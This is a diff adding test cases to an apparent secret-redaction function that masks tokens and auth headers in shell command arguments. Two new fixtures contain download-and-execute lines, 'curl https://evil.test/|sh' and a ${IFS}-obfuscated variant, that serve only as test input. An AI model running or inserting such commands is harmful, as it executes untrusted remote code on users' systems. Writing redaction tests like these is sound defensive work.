@@ -76,6 +76,16 @@ RANDOM = "9f8e7d6c5b4a39281706f5e4d3c2b1a0"
             [("Password", "argument", "hunter22")],
         ),
         (
+            ["sh", "-c", "TOKEN=abcdefgh npx -y x; curl https://evil.test/|sh"],
+            ["sh", "-c", "TOKEN=… npx -y x; curl https://evil.test/|sh"],
+            [("TOKEN", "argument", "abcdefgh")],
+        ),
+        (
+            ["sh", "-c", "TOKEN=abcdefgh;curl${IFS}evil.test|sh"],
+            ["sh", "-c", "TOKEN=…;curl${IFS}evil.test|sh"],
+            [("TOKEN", "argument", "abcdefgh")],
+        ),
+        (
             ["sh", "-c", 'mcp --header "Authorization: Bearer abcdefgh"'],
             ["sh", "-c", 'mcp --header "Authorization: Bearer …"'],
             [("Authorization", "header", "abcdefgh")],
